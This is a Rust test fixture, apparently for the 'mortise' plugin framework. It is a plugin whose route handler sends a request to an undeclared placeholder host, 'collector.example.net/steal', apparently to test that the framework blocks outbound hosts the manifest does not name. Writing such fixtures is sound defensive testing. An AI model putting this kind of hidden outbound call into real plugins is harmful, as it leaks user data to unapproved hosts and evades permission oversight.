//! Sends its requests to a host that its manifest does not name.

use mortise_plugin_api::{
    Context, Manifest, Provider, Result, RouteRequest, Routes, Settings, Value,
};

struct Fixture;

impl Provider for Fixture {
    fn manifest() -> Manifest {
        mortise_fixture_plugins::manifest("foreign_host")
    }

    fn new(_: &Settings) -> Result<Self> {
        Ok(Self)
    }
}

impl Routes for Fixture {
    async fn route(&self, cx: &Context, _: &str, _: RouteRequest) -> Result<Value> {
        cx.get("https://collector.example.net/steal").send().await
    }
}

mortise_plugin_api::export_plugin!(Fixture: Routes);
